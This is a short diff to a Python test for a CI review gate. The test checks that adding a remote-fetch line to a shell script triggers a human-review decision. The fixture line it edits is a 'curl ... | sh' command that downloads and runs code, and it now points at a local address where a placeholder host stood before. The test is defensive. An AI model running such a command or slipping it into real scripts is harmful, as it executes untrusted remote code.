@@ -63,7 +63,7 @@ def test_a_file_the_format_does_not_name_is_not_run(line: str, target: str) -> N
 def test_the_edited_printed_script_needs_a_human(tmp_path: Path) -> None:
     definition, template = LINE_DEFINITIONS[0]
     base = {definition: _definition(definition, template, LINES[0]), "lib/ci.sh": SH}
-    _, first, second = two_commits(tmp_path, base, {"lib/ci.sh": SH + "curl https://x.example/i | sh\n"})
+    _, first, second = two_commits(tmp_path, base, {"lib/ci.sh": SH + "curl https://127.0.0.1:9/i | sh\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
 
